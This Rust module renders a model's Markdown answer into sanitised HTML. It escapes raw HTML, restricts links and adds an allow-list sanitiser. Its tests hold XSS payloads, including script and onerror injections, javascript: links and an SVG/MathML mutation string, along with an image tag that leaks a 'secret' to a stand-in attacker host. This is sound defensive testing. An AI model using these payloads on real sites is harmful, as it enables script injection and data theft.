//! An answer as HTML.
//!
//! A model is hostile: it may write anything that an attacker put into what it read. Its Markdown is rendered with raw
//! HTML as text, pictures as their description, and links only to plain web addresses with the true host beside them.
//! Then the result is parsed and rebuilt from an allow-list by a sanitiser that knows nothing of the first step. Each
//! of the two must fail before markup of an answer reaches a page.

use std::collections::{HashMap, HashSet};
use std::fmt;
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};
use askama::Template;
use askama::filters::Escaper;
use pulldown_cmark::{
    CodeBlockKind, CowStr, Event, HeadingLevel, LinkType, Options, Parser, Tag, TagEnd, TextMergeStream,
};

use crate::escape::{Shown, line, seen};
use crate::link;
use crate::view::Source;

/// How deep quotes, lists and emphasis may lie in each other. Deeper ones are shown flat: parsers of HTML take time in proportion
/// to depth, and nobody reads them.
const DEEPEST: usize = 12;

/// The longest answer that is rendered, in bytes of Markdown. Longer ones are shown as they were written: the sanitiser's
/// parser and writer take time in proportion to the square of some texts' length, and only ones that nobody asked for
/// are that long.
const LONGEST: usize = 64 * 1024;

/// What an answer's link is. Nobody's ranking, opener or referrer.
const REL: &str = "noopener noreferrer nofollow";

const TAGS: [&str; 25] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "small",
    "strong",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];
const NONE: [&str; 8] = ["script", "style", "template", "noscript", "iframe", "textarea", "title", "xmp"];

static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(TAGS))
        .clean_content_tags(HashSet::from(NONE))
        .tag_attributes(HashMap::from([("a", HashSet::from(["href"])), ("ol", HashSet::from(["start"]))]))
        .url_schemes(HashSet::from(["http", "https"]))
        .url_relative(UrlRelative::PassThrough)
        .attribute_filter(|element, attribute, value| {
            let fits = match (element, attribute) {
                ("a", "href") => link::outside(value).is_some() || is_document(value),
                ("ol", "start") => value.len() <= 9 && value.bytes().all(|b| b.is_ascii_digit()),
                ("a", "rel") => true,
                _ => false,
            };
            fits.then(|| value.into())
        })
        .link_rel(Some(REL));
    builder
});

/// Whether a path is one that [`link::document`] makes. A model can write such a path itself; it then leads to a page
/// that shows what its reader may see, or nothing.
fn is_document(path: &str) -> bool {
    path.rsplit_once("/documents/").is_some_and(|(base, id)| link::document(base, id) == path)
}

/// HTML that went through the sanitiser, or text that was escaped. Nothing else makes one, so a template may print it as
/// it is.
#[derive(Debug)]
pub(crate) struct Sanitised(String);

impl fmt::Display for Sanitised {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A source in the list under an answer.
pub(crate) struct Cited {
    pub(crate) number: Option<usize>,
    pub(crate) href: String,
    pub(crate) title: String,
}

/// One finished answer with its sources.
#[derive(Template)]
#[template(path = "answer.html")]
pub(crate) struct Answer {
    pub(crate) sanitised: Sanitised,
    pub(crate) sources: Vec<Cited>,
}

impl Answer {
    pub(crate) fn new(text: &str, sources: &[Source<'_>]) -> Self {
        let cited = |source: &Source<'_>| Cited {
            number: source.number,
            href: link::document(source.base, source.document),
            title: line(source.title, "Untitled").into_owned(),
        };
        Self { sanitised: sanitised(text, sources), sources: sources.iter().map(cited).collect() }
    }
}

/// The HTML of one finished answer and its sources: what stands inside of a message on the chat page.
pub fn answer_fragment(text: &str, sources: &[Source<'_>]) -> String {
    Answer::new(text, sources).render().unwrap_or_default()
}

/// Markdown rendered, then sanitised; or, if it is too long for that, the text escaped.
fn sanitised(text: &str, sources: &[Source<'_>]) -> Sanitised {
    if text.len() > LONGEST {
        return Sanitised(plain(text));
    }
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let events = TextMergeStream::new(Parser::new_ext(text, options));
    let mut html = String::with_capacity(text.len() * 2);
    pulldown_cmark::html::push_html(&mut html, Rewriter::new(sources).rewrite(events).into_iter());
    Sanitised(SANITISER.clean(&html).to_string())
}

/// Text that is markup nowhere, with a paragraph for each of its own.
fn plain(text: &str) -> String {
    let mut html = String::with_capacity(text.len() * 2);
    for paragraph in text.split("\n\n").filter(|paragraph| !paragraph.trim().is_empty()) {
        html.push_str("<p>");
        // Writing into a `String` cannot fail.
        let _ = Shown.write_escaped_str(&mut html, paragraph);
        html.push_str("</p>\n");
    }
    html
}

/// Where a link begun and where it leads.
struct Open<'t> {
    /// The place of its first event in the output.
    at: usize,
    kind: LinkType,
    address: CowStr<'t>,
}

/// Turns a parser's events into those that may be rendered.
struct Rewriter<'s, 't> {
    sources: &'s [Source<'s>],
    out: Vec<Event<'t>>,
    link: Option<Open<'t>>,
    /// For each open quote, list or emphasis whether it is shown.
    nested: Vec<bool>,
    /// Inside of how many pictures: their description is text.
    pictures: usize,
    code: bool,
}

impl<'s, 't> Rewriter<'s, 't> {
    fn new(sources: &'s [Source<'s>]) -> Self {
        Self { sources, out: Vec::new(), link: None, nested: Vec::new(), pictures: 0, code: false }
    }

    fn rewrite(mut self, events: impl Iterator<Item = Event<'t>>) -> Vec<Event<'t>> {
        for event in events {
            self.take(event);
        }
        self.out
    }

    fn take(&mut self, event: Event<'t>) {
        match event {
            Event::Start(tag) => self.start(tag),
            Event::End(tag) => self.end(tag),
            Event::Text(text) => self.text(&text),
            // Raw HTML is shown as what was written. `push_html` escapes text.
            Event::Html(text) | Event::InlineHtml(text) => {
                self.out.push(Event::Text(seen(&text).into_owned().into()));
            }
            Event::Code(text) => self.out.push(Event::Code(seen(&text).into_owned().into())),
            Event::SoftBreak | Event::HardBreak | Event::Rule => self.out.push(event),
            // Extensions that are not switched on.
            Event::FootnoteReference(text) | Event::InlineMath(text) | Event::DisplayMath(text) => {
                self.text(&text);
            }
            Event::TaskListMarker(_) => {}
        }
    }

    fn start(&mut self, tag: Tag<'t>) {
        match tag {
            Tag::Link { link_type, dest_url, .. } => {
                self.link = Some(Open { at: self.out.len(), kind: link_type, address: dest_url });
            }
            Tag::Image { .. } => self.pictures += 1,
            // The page has the one first heading, and a message's author is the second.
            Tag::Heading { level, .. } => {
                self.out.push(Event::Start(Tag::Heading {
                    level: lower(level),
                    id: None,
                    classes: Vec::new(),
                    attrs: Vec::new(),
                }));
            }
            Tag::CodeBlock(_) => {
                self.code = true;
                self.out.push(Event::Start(Tag::CodeBlock(CodeBlockKind::Indented)));
            }
            Tag::BlockQuote(_) => self.nest(Tag::BlockQuote(None)),
            Tag::List(_) | Tag::Emphasis | Tag::Strong | Tag::Strikethrough => self.nest(tag),
            Tag::HtmlBlock => self.out.push(Event::Start(Tag::Paragraph)),
            Tag::Item if !self.shallow() => self.out.push(Event::Start(Tag::Paragraph)),
            Tag::Item | Tag::Paragraph | Tag::Table(_) | Tag::TableHead | Tag::TableRow | Tag::TableCell => {
                self.out.push(Event::Start(tag))
            }
            // Extensions that are not switched on.
            _ => {}
        }
    }

    fn end(&mut self, tag: TagEnd) {
        match tag {
            TagEnd::Link => self.end_link(),
            TagEnd::Image => self.pictures = self.pictures.saturating_sub(1),
            TagEnd::Heading(level) => self.out.push(Event::End(TagEnd::Heading(lower(level)))),
            TagEnd::CodeBlock => {
                self.code = false;
                self.out.push(Event::End(tag));
            }
            TagEnd::BlockQuote(_) => self.unnest(TagEnd::BlockQuote(None)),
            TagEnd::List(_) | TagEnd::Emphasis | TagEnd::Strong | TagEnd::Strikethrough => self.unnest(tag),
            TagEnd::HtmlBlock => self.out.push(Event::End(TagEnd::Paragraph)),
            TagEnd::Item if !self.shallow() => self.out.push(Event::End(TagEnd::Paragraph)),
            TagEnd::Item
            | TagEnd::Paragraph
            | TagEnd::Table
            | TagEnd::TableHead
            | TagEnd::TableRow
            | TagEnd::TableCell => self.out.push(Event::End(tag)),
            _ => {}
        }
    }

    fn nest(&mut self, tag: Tag<'t>) {
        let shown = self.nested.len() < DEEPEST;
        self.nested.push(shown);
        if shown {
            self.out.push(Event::Start(tag));
        }
    }

    fn unnest(&mut self, tag: TagEnd) {
        if self.nested.pop() == Some(true) {
            self.out.push(Event::End(tag));
        }
    }

    /// Whether the list of an item that begins or ends here is shown.
    fn shallow(&self) -> bool {
        self.nested.last().is_none_or(|shown| *shown)
    }

    /// A link to a plain web address, with its host beside it where the text does not tell; else only its text.
    fn end_link(&mut self) {
        let Some(Open { at, kind, address }) = self.link.take() else { return };
        let mut text: String = self
            .out
            .get(at..)
            .unwrap_or_default()
            .iter()
            .filter_map(|event| match event {
                Event::Text(text) | Event::Code(text) => Some(text.as_ref()),
                _ => None,
            })
            .collect();
        // A model that defines `[1]: https://elsewhere` would turn a mark of ours into its link.
        let is_mark = matches!(kind, LinkType::Shortcut | LinkType::Collapsed)
            && text.parse().is_ok_and(|number| self.source(number).is_some());
        if is_mark {
            self.out.truncate(at);
            self.text(&format!("[{text}]"));
            return;
        }
        let Some((address, host)) = link::outside(&address) else { return };
        if line(&text, "").is_empty() {
            text.clone_from(&address);
            self.plain(&address);
        }
        self.out.insert(
            at,
            Event::Start(Tag::Link {
                link_type: LinkType::Inline,
                dest_url: address.clone().into(),
                title: CowStr::Borrowed(""),
                id: CowStr::Borrowed(""),
            }),
        );
        self.out.push(Event::End(TagEnd::Link));
        if !tells(&text, &address, &host) {
            self.markup(format_args!(" <small>("), &host, format_args!(")</small>"));
        }
    }

    /// Text, with the marks of sources as links where a link may stand.
    fn text(&mut self, text: &str) {
        let text = seen(text);
        let mut rest: &str = &text;
        if self.link.is_none() && !self.code && self.pictures == 0 {
            let mut from = 0;
            while let Some((before, number, after)) = mark(rest, from) {
                match self.source(number) {
                    None => from = rest.len() - after.len(),
                    Some(source) => {
                        let href = link::document(source.base, source.document);
                        self.plain(before);
                        self.markup(
                            format_args!("<sup><a href=\""),
                            &href,
                            format_args!("\">[{number}]</a></sup>"),
                        );
                        rest = after;
                        from = 0;
                    }
                }
            }
        }
        self.plain(rest);
    }

    fn plain(&mut self, text: &str) {
        if !text.is_empty() {
            self.out.push(Event::Text(text.to_owned().into()));
        }
    }

    /// Markup of ours around escaped text.
    fn markup(&mut self, before: fmt::Arguments<'_>, text: &str, after: fmt::Arguments<'_>) {
        let mut html = before.to_string();
        if Shown.write_escaped_str(&mut html, text).is_ok() {
            html.push_str(&after.to_string());
            self.out.push(Event::InlineHtml(html.into()));
        }
    }

    fn source(&self, number: usize) -> Option<&'s Source<'s>> {
        self.sources.iter().find(|source| source.number == Some(number))
    }
}

/// The first `[n]` at or after a place: what stands before it, the number, and what follows.
fn mark(text: &str, from: usize) -> Option<(&str, usize, &str)> {
    let mut at = from;
    loop {
        let open = at + text.get(at..)?.find('[')?;
        let after = text.get(open + 1..)?;
        let digits = after.bytes().take_while(u8::is_ascii_digit).count();
        if (1..=4).contains(&digits) && after.get(digits..).is_some_and(|rest| rest.starts_with(']')) {
            let number = after.get(..digits)?.parse().ok()?;
            return Some((text.get(..open)?, number, after.get(digits + 1..)?));
        }
        at = open + 1;
    }
}

/// Whether a link's text tells its reader where it leads: it is the address or its host, letter for letter. An address
/// with characters that the renderer would encode is not what its link will hold.
fn tells(text: &str, address: &str, host: &str) -> bool {
    let text = text.trim();
    let kept = address.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.~/?=&%#:+".contains(&b));
    text == host || (kept && (text == address || text == address.trim_end_matches('/')))
}

const fn lower(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
    }
}

#[cfg(test)]
mod tests {
    use super::{REL, SANITISER};

    /// The second barrier alone: what it does when the first has let everything through.
    #[test]
    fn the_sanitiser_needs_no_help() {
        for (html, clean) in [
            ("<script>alert(1)</script>a", "a"),
            ("<style>a{}</style><p style=\"x\" class=\"y\" id=\"z\" onclick=\"w\">a</p>", "<p>a</p>"),
            ("<img src=\"https://evil.example/?q=secret\" onerror=\"x\">a", "a"),
            ("<form action=\"https://evil.example\"><input name=\"a\"><button>b</button></form>", "b"),
            (
                "<iframe srcdoc=\"<script>x</script>\">a</iframe><object data=\"x\"></object><embed src=\"x\">",
                "",
            ),
            ("<svg><a xlink:href=\"javascript:x\"><text>a</text></a></svg>", ""),
            ("<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=x>\">", ""),
            (
                "<meta http-equiv=\"refresh\" content=\"0\"><base href=\"//evil.example\"><link href=\"x\">a",
                "a",
            ),
            ("<!-- <b>a</b> -->b<?php c ?>", "b"),
            (
                "<a href=\"javascript:x\" target=\"_blank\" ping=\"//evil.example\">a</a>",
                "<a rel=\"REL\">a</a>",
            ),
            ("<a href=\"data:text/html,x\">a</a>", "<a rel=\"REL\">a</a>"),
            ("<a href=\"//evil.example\">a</a>", "<a rel=\"REL\">a</a>"),
            ("<a href=\"https://a.example@evil.example/\">a</a>", "<a rel=\"REL\">a</a>"),
            ("<a href=\"/login\">a</a>", "<a rel=\"REL\">a</a>"),
            ("<a href=\"/documents/../login\">a</a>", "<a rel=\"REL\">a</a>"),
            (
                "<a href=\"/c/harbour/documents/1-a\">a</a>",
                "<a href=\"/c/harbour/documents/1-a\" rel=\"REL\">a</a>",
            ),
            (
                "<a href=\"https://a.example/\" rel=\"opener\">a</a>",
                "<a href=\"https://a.example/\" rel=\"REL\">a</a>",
            ),
            ("<ol start=\"7\" type=\"a\"><li value=\"3\">a</li></ol>", "<ol start=\"7\"><li>a</li></ol>"),
            ("<ol start=\"-7\"><li>a</li></ol>", "<ol><li>a</li></ol>"),
        ] {
            assert_eq!(SANITISER.clean(html).to_string(), clean.replace("REL", REL), "{html}");
        }
    }
}
